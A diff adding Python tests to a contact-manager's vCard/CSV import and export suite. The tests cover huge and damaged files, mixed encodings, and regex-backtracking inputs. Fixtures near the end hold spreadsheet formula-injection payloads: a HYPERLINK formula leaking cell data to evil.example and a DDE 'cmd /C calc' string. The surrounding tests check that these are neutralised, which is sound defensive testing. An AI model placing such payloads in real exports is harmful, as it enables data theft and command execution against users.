@@ -6,6 +6,7 @@ import codecs
 import csv
 import json
 import os
+import random
 import signal
 import sqlite3
 import subprocess
@@ -18,6 +19,8 @@ from dataclasses import dataclass, replace
 from pathlib import Path
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from omidesk.core.contact_io import (
     CSV,
@@ -30,6 +33,7 @@ from omidesk.core.contact_io import (
     export_csv,
     export_file,
     export_vcard,
+    formulas,
     import_file,
     importer,
     preview,
@@ -434,6 +438,234 @@ def test_files_that_hold_no_contacts(tmp_path: Path) -> None:
         with pytest.raises(ContactFileError) as raised:
             read_contacts(path)
         assert raised.value.code == code, path
+
+
+# --- huge, damaged and mixed files ----------------------------------------------------------------
+
+
+def _card(name: str, number: str, *extra: str) -> str:
+    return "\r\n".join(["BEGIN:VCARD", "VERSION:3.0", f"FN:{name}", f"TEL:{number}", *extra]) + (
+        "\r\nEND:VCARD\r\n"
+    )
+
+
+def test_a_value_folded_over_80000_lines_imports_whole(tmp_path: Path, store: ContactStore) -> None:
+    pieces = [f"{n % 10}ạ" for n in range(80_000)]
+    photo = "PHOTO;ENCODING=b;TYPE=JPEG:" + "\r\n ".join(["QUJD" * 18] * 80_000)
+    note = "NOTE:Ghi chú " + "\r\n ".join(pieces)
+    path = tmp_path / "folded.vcf"
+    path.write_text(
+        _card("Nguyễn Văn An", "0901 234 567", photo, note) + _card("Lê Nam", "0912 345 678"),
+        encoding="utf-8",
+        newline="",
+    )
+    report = import_file(store.db, path)
+    assert counts(report) == (2, 2, 0, 0, 0)
+    an = everyone(store)["Nguyễn Văn An"]
+    assert an.note == "Ghi chú " + "".join(pieces)
+    assert numbers(an) == [("0901 234 567", "")]
+
+
+def test_lines_that_make_vobject_backtrack_are_read_in_one_pass(tmp_path: Path) -> None:
+    # vobject's line pattern backtracks exponentially on a line whose parameters do not
+    # read (about 4 times longer per parameter): 40 of them would never end.
+    path = tmp_path / "hostile.vcf"
+    path.write_text(
+        _card("Nguyễn Văn An", "0901 234 567", "TEL;TYPE=" + "cell," * 40)
+        + _card("Lê Nam", "0912 345 678", "NOTE" + ";a=b" * 40 + ";x y:ghi chú")
+        + _card("Trần Thị Bích Ngọc", "0983 456 789", "TEL" + ";a" * 40 + ';"x:0935 678 901'),
+        encoding="utf-8",
+        newline="",
+    )
+    result = run_cli("contacts", "import", str(path), "--json", timeout=60)
+    assert result.code == 0, result.err
+    assert json.loads(result.out)["imported"] == 3
+    found = json.loads(run_cli("contacts", "search", "tran thi bich ngoc", "--json").out)
+    # The number of a line that does not read is kept all the same.
+    assert [phone["number"] for phone in found[0]["phones"]] == ["0983 456 789", "0935 678 901"]
+
+
+def _write_repeated(path: Path, head: str, unit: str, total_bytes: int, tail: str) -> None:
+    with path.open("w", encoding="utf-8", newline="") as file:
+        file.write(head)
+        file.write(unit * (total_bytes // len(unit.encode("utf-8"))))
+        file.write(tail)
+
+
+@pytest.mark.parametrize(
+    ("shape", "imported", "skipped_reason"),
+    [
+        # A 50 MB photo, folded as phones write it: the contact is imported, the photo unread.
+        ("photo", 2, None),
+        # 50 MB of note on one line, then 50 MB of numbers: no contact is that big.
+        ("note", 1, "import_card_too_big"),
+        ("numbers", 1, "import_card_too_big"),
+    ],
+)
+def test_a_50_mb_card_is_read_to_its_end(
+    tmp_path: Path, shape: str, imported: int, skipped_reason: str | None
+) -> None:
+    path = tmp_path / f"{shape}.vcf"
+    size = 50 << 20
+    head = "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Trần Thị Bích Ngọc\r\nTEL:0912 345 678\r\n"
+    tail = "\r\nEND:VCARD\r\n" + _card("Lê Nam", "0983 456 789")
+    if shape == "photo":
+        _write_repeated(path, head + "PHOTO;ENCODING=b:QUJD", "\r\n " + "QUJD" * 18, size, tail)
+    elif shape == "note":
+        _write_repeated(path, head + "NOTE:", "Ghi chú dài ", size, tail)
+    else:
+        _write_repeated(path, head + "TEL:0", "\r\nTEL:0901 234 567", size, tail)
+    # Only that it ends (a quadratic read of this card never did); no speed is asserted.
+    result = run_cli("contacts", "import", str(path), "--json", timeout=120)
+    assert result.code == 0, result.err
+    report = json.loads(result.out)
+    assert report["imported"] == imported
+    if skipped_reason is None:
+        assert report["skipped_rows"] == []
+    else:
+        assert [(r["row"], r["reason"]) for r in report["skipped_rows"]] == [(1, skipped_reason)]
+
+
+def _cp1258(text: str) -> bytes:
+    """Text as Windows-1258 writes it: a toned letter the code page lacks as its base
+    letter (ă, ê, ơ… it has) followed by the tone mark."""
+    out = []
+    for char in unicodedata.normalize("NFC", text):
+        try:
+            char.encode("cp1258")
+        except UnicodeEncodeError:
+            decomposed = unicodedata.normalize("NFD", char)
+            tone = next(mark for mark in decomposed if mark in "\u0300\u0301\u0303\u0309\u0323")
+            out.append(unicodedata.normalize("NFC", decomposed.replace(tone, "")) + tone)
+        else:
+            out.append(char)
+    return "".join(out).encode("cp1258")
+
+
+@pytest.mark.parametrize(("bom", "encoding"), [(b"", "utf-8"), (codecs.BOM_UTF8, "utf-8-sig")])
+def test_a_utf8_file_with_a_few_rows_in_another_encoding(
+    tmp_path: Path, store: ContactStore, bom: bytes, encoding: str
+) -> None:
+    rows = [f"Nguyễn Văn Khách {n},0911 {n:06d}\r\n".encode() for n in range(30)]
+    rows[3] = _cp1258("Phạm Thị Thu Hà,0935 678 901\r\n")  # row 5 (the header is row 1)
+    rows[10] = "José Müller,0936 000 111\r\n".encode("cp1252")  # row 12
+    path = tmp_path / "mixed.csv"
+    path.write_bytes(bom + "Họ tên,Điện thoại\r\n".encode() + b"".join(rows))
+    seen = preview(path)
+    assert seen.encoding == encoding
+    assert seen.rows[0] == ["Nguyễn Văn Khách 0", "0911 000000"]
+    report = import_file(store.db, path)
+    assert counts(report) == (30, 28, 0, 0, 2)
+    assert [(issue.row, issue.reason) for issue in report.skipped] == [
+        (5, "import_bad_encoding"),
+        (12, "import_bad_encoding"),
+    ]
+    # Windows-1258 writes ạ and ị as a letter and a tone mark: the mark is the byte shown.
+    assert report.skipped[0].detail == "Pha\ufffdm Thi\ufffd Thu H\ufffd,0935 678 901"
+    assert report.skipped[1].detail == "Jos\ufffd M\ufffdller,0936 000 111"
+    people = everyone(store)
+    assert len(people) == 28 and "Nguyễn Văn Khách 29" in people
+    # Nothing undecodable reaches the store, the report or the JSON.
+    json.dumps(report.to_json(), ensure_ascii=False).encode("utf-8")
+    saved = tmp_path / "report.csv"
+    report.save_csv(saved, "vi")
+    assert "Chữ trong dòng này" in saved.read_text(encoding="utf-8-sig")
+
+
+def test_a_vcard_with_one_card_in_another_encoding(tmp_path: Path, store: ContactStore) -> None:
+    path = tmp_path / "mixed.vcf"
+    good = [f"Nguyễn Văn An {n}" for n in range(5)]
+    path.write_bytes(
+        _card(good[0], "0901 234 560").encode()
+        + _cp1258(_card("Đặng Thị Hương", "0935 678 901"))
+        + b"".join(_card(name, f"0901 234 56{n}").encode() for n, name in enumerate(good[1:], 1))
+    )
+    report = import_file(store.db, path)
+    assert counts(report) == (6, 5, 0, 0, 1)
+    (issue,) = report.skipped
+    assert (issue.row, issue.reason) == (2, "import_bad_encoding")
+    assert issue.detail == "FN:\ufffd\ufffd\ufffdng Thi\ufffd H\ufffd\ufffdng TEL:0935 678 901"
+    assert set(everyone(store)) == set(good)
+
+
+def _garbage(size: int, seed: int) -> bytes:
+    """What a copy cut short leaves: binary data (here starting like a gzip stream)."""
+    return b"\x1f\x8b\x08" + random.Random(seed).randbytes(size)
+
+
+@pytest.mark.parametrize("damage", ["random", "zeros"])
+def test_a_vcard_damaged_after_its_cards_imports_them(
+    tmp_path: Path, db: Database, damage: str
+) -> None:
+    clean = (DATA / "iphone_vcard30.vcf").read_bytes()
+    garbage = _garbage(4096, 1) if damage == "random" else b"\x00" * 8192
+    path = tmp_path / "cut.vcf"
+    path.write_bytes(clean + garbage)
+    assert preview(path).kind == VCARD
+    report = import_file(db, path)
+    with Database(tmp_path / "clean.sqlite3") as reference:
+        expected = import_file(reference, DATA / "iphone_vcard30.vcf")
+        assert summary(ContactStore(db)) == summary(ContactStore(reference))
+    assert (report.imported, report.merged) == (expected.imported, expected.merged)
+    damaged = [issue for issue in report.skipped if issue.reason == "import_damaged"]
+    lines = clean.count(b"\n")
+    assert [(issue.row, issue.line) for issue in damaged] == [(10, lines + 1)]
+    assert report.damaged
+    assert report.to_json()["damaged"] is True
+
+
+def test_a_card_cut_by_damage_is_reported_and_the_cards_after_it_read(
+    tmp_path: Path, store: ContactStore
+) -> None:
+    second = _card("Phạm Thị Thu Hà", "0935 678 901").encode()
+    cut = second[: second.index(b"TEL")]  # lines 6 to 8, and the damage on line 9
+    path = tmp_path / "holed.vcf"
+    path.write_bytes(
+        _card("Nguyễn Văn An", "0901 234 567").encode()
+        + cut
+        + _garbage(3000, 2)
+        + b"\r\n"
+        + _card("Lê Hoàng Nam", "0983 456 789").encode()
+    )
+    report = import_file(store.db, path)
+    assert set(everyone(store)) == {"Nguyễn Văn An", "Lê Hoàng Nam"}
+    (issue,) = report.skipped
+    assert (issue.row, issue.reason, issue.line) == (2, "import_damaged", 9)
+    assert "Phạm Thị Thu Hà" in issue.detail
+    assert report.damaged
+
+
+def test_damage_past_the_first_megabyte_leaves_the_encoding_alone(
+    tmp_path: Path, store: ContactStore
+) -> None:
+    cards = "".join(_card(f"Đặng Thị Hương {n}", f"0935 {n:06d}") for n in range(15_000))
+    path = tmp_path / "long.vcf"
+    path.write_bytes(cards.encode() + _garbage(1 << 20, 3))
+    assert len(cards.encode()) > 1 << 20
+    report = import_file(store.db, path)
+    assert report.imported == 15_000
+    assert store.search("Đặng Thị Hương 14999", limit=1)[0].name == "Đặng Thị Hương 14999"
+    assert [issue.reason for issue in report.skipped] == ["import_damaged"]
+
+
+def test_cli_import_of_a_damaged_vcard_exits_1_with_the_cards_before_imported(
+    tmp_path: Path,
+) -> None:
+    path = tmp_path / "cut.vcf"
+    path.write_bytes((DATA / "iphone_vcard30.vcf").read_bytes() + _garbage(2048, 4))
+    result = run_cli("contacts", "import", str(path))
+    assert result.code == 1, result.err
+    assert "8 imported" in result.out
+    assert "row 10: The file is damaged from this card on" in result.out
+    assert "Traceback" not in result.err
+    as_json = run_cli("contacts", "import", str(path), "--json")
+    assert as_json.code == 1
+    report = json.loads(as_json.out)
+    assert report["damaged"] is True
+    assert report["skipped_rows"][-1]["reason"] == "import_damaged"
+    assert report["skipped_rows"][-1]["line"] == 79
+    found = run_cli("contacts", "search", "nguyen van an", "--json")
+    assert [item["name"] for item in json.loads(found.out)] == ["Nguyễn Văn An"]
 
 
 # --- duplicates, cancel, progress -----------------------------------------------------------------
@@ -1171,6 +1403,80 @@ def test_the_vcard_export_is_version_4_escaped_and_folded(
         store2.db.close()
 
 
+# Cells a spreadsheet would run as a formula (OWASP "CSV injection"): a name, company,
+# note, label or number as written may be any text someone typed or imported.
+HOSTILE = Contact(
+    name='=HYPERLINK("http://evil.example/?"&A1,"Nguyễn Văn An")',
+    company="+cmd|' /C calc'!A0",
+    email="@SUM(1+1)",
+    note="-2+3 ghi chú\ndòng hai",
+    phones=(
+        Phone.parse("+84 90 123 4567", "=1+1"),
+        Phone.parse("-1+2", "Mobile"),
+        Phone.parse("=0901234568", ""),
+    ),
+)
+# Names that start with the neutraliser itself, or only look like a formula with a quote.
+QUOTED = [
+    Contact(name="'=already quoted", phones=(Phone.parse("0912 345 678"),)),
+    Contact(name="''+twice", phones=(Phone.parse("0912 345 679"),)),
+    Contact(name="'Quote at the start", phones=(Phone.parse("0912 345 670"),)),
+    Contact(name="Trần @ Công ty", company="@Home", phones=(Phone.parse("0912 345 671"),)),
+]
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_the_csv_export_neutralises_every_formula_and_imports_back(
+    tmp_path: Path, store: ContactStore
+) -> None:
+    store.add(HOSTILE)
+    for contact in QUOTED:
+        store.add(contact)
+    original = summary(store)
+    path = tmp_path / "out.csv"
+    assert export_csv(store, path) == 5
+    with path.open(encoding="utf-8-sig", newline="") as file:
+        cells = [cell for row in csv.reader(file) for cell in row]
+    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
+    assert "'+84 90 123 4567" in cells  # a number as written, quoted like any cell
+    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Nguyễn Văn An")' in cells
+    assert "''=already quoted" in cells and "'''+twice" in cells
+    assert "'Quote at the start" in cells  # no formula after it: left alone
+    with Database(tmp_path / "again.sqlite3") as again:
+        report = import_file(again, path)
+        assert (report.imported, len(report.skipped)) == (5, 0)
+        assert summary(ContactStore(again)) == original
+        back = {c.name: c for c in ContactStore(again).search("", limit=10)}
+        hostile = back[HOSTILE.name]
+        assert [(p.number, p.valid, p.e164) for p in hostile.phones] == [
+            ("+84 90 123 4567", True, "+84901234567"),
+            ("-1+2", False, None),
+            ("=0901234568", True, "+84901234568"),
+        ]
+
+
+def test_a_quote_before_a_formula_is_taken_off_on_import(
+    tmp_path: Path, store: ContactStore
+) -> None:
+    # What a spreadsheet (or OmiDesk) wrote to keep cells from running: the quote goes.
+    path = tmp_path / "quoted.csv"
+    path.write_text(
+        "Họ tên,Điện thoại,Ghi chú\n"
+        "'-Phạm Thị Thu Hà,'+84 90 123 4567,'=chú ý\n"
+        "'Ông Tư,'0912 345 678,''@nhắc\n",
+        encoding="utf-8",
+    )
+    seen = preview(path)
+    assert seen.rows[0] == ["-Phạm Thị Thu Hà", "+84 90 123 4567", "=chú ý"]
+    import_file(store.db, path)
+    people = everyone(store)
+    assert numbers(people["-Phạm Thị Thu Hà"]) == [("+84 90 123 4567", "")]
+    assert people["-Phạm Thị Thu Hà"].note == "=chú ý"
+    # A quote before anything else is the cell's own text.
+    assert numbers(people["'Ông Tư"]) == [("'0912 345 678", "")]
+    assert people["'Ông Tư"].note == "'@nhắc"
+
+
 def test_export_refuses_an_unknown_extension_or_folder(tmp_path: Path, store: ContactStore) -> None:
     out = tmp_path / "out"
     out.mkdir()
@@ -1206,6 +1512,27 @@ def test_the_report_saves_as_a_spreadsheet_in_the_agents_language(
     }
     assert as_json["skipped_rows"][0]["reason"] == "import_no_number"
     json.dumps(as_json)
+
+
+def test_the_saved_report_neutralises_formulas_too(tmp_path: Path, db: Database) -> None:
+    path = tmp_path / "hostile.csv"
+    path.write_text(
+        'Name,Phone\n"=HYPERLINK(""http://evil.example"",""x"")",\n@SUM(1),0901 23\n',
+        encoding="utf-8",
+    )
+    report = import_file(db, path)
+    assert [issue.name for issue in report.rows()] == [
+        '=HYPERLINK("http://evil.example","x")',
+        "@SUM(1)",
+    ]
+    saved = tmp_path / "report.csv"
+    report.save_csv(saved, "en")
+    with saved.open(encoding="utf-8-sig", newline="") as file:
+        rows = list(csv.reader(file))
+    cells = [cell for row in rows for cell in row]
+    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
+    assert rows[1][:2] == ["2", '\'=HYPERLINK("http://evil.example","x")']
+    assert rows[2][:2] == ["3", "'@SUM(1)"]
 
 
 # --- the pieces -----------------------------------------------------------------------------------
@@ -1292,6 +1619,15 @@ def test_encodings_are_told_apart(tmp_path: Path) -> None:
     # Windows-1258 text: tones as combining marks make Vietnamese vowels.
     assert vietnamese_evidence("Nguyê\u0303n Thi\u0323 Hương") == (3, 7)
     assert vietnamese_evidence("Niccol\u0323 \u0303or") == (0, -6)
+
+
+@settings(deadline=None)
+@given(st.text(alphabet=st.sampled_from("=+-@\t\r\n '\"a9đ;,")) | st.text())
+def test_a_neutralised_cell_runs_nothing_and_reads_back_as_it_was(text: str) -> None:
+    cell = formulas.neutralise(text)
+    assert not cell.lstrip(" ").startswith(FORMULA_START)
+    assert formulas.restore(cell) == text
+    assert formulas.restore_row([text, cell]) == [formulas.restore(text), text]
 
 
 def test_vcard_lines_fold_without_splitting_a_character() -> None:
